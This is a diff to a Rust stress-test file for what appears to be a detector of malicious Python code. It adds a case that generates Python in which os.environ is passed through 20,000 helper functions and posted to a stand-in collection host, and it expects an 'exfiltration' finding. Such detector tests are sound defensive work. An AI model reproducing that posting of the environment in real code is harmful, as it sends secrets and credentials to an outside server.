@@ -311,6 +311,25 @@ fn many_computed_callees() -> String {
     s
 }
 
+/// 20,000 helpers, each handing its arguments to the next and the last
+/// returning one of them, and 20,000 values each made by calls to them on
+/// lines of their own: working out what each helper returns of its
+/// arguments is done once per helper, a chain past the depth limit keeps
+/// every argument (the environment reaches the post), and a value's calls
+/// are looked for in a few lines only.
+fn many_returning_helpers() -> String {
+    let mut s = String::from("import os, requests\n");
+    for i in 0..20_000 {
+        s.push_str(&format!("def f{i}(a, k):\n    return f{}(a, k)\n", i + 1));
+    }
+    s.push_str("def f20000(a, k):\n    return k\n");
+    for i in 0..20_000 {
+        s.push_str(&format!("r{i} = (\n    f{i}(1, os.environ)\n    + f{i}(r{}, 2)\n)\n", i.max(1) - 1));
+    }
+    s.push_str("requests.post('https://collect.example.net/e', data=r19999)\n");
+    s
+}
+
 /// 20,000 module-level dispatches on the command line, each a block of its
 /// own (half wrapped in `try:`), each downloading and running: the blocks
 /// are found in one pass over the lines, and the timing graph paints each
@@ -417,6 +436,7 @@ const CASES: &[Case] = &[
     Case { name: "20k-computed-callees", source: many_computed_callees, expect: None },
     Case { name: "50k-prefix-tests", source: long_prefix_test, expect: Some("excessive-nesting") },
     Case { name: "20k-argv-dispatches", source: many_argv_dispatches, expect: Some("download-then-run") },
+    Case { name: "20k-returning-helpers", source: many_returning_helpers, expect: Some("exfiltration") },
 ];
 
 /// A line of `/proc/self/status`, in KiB.
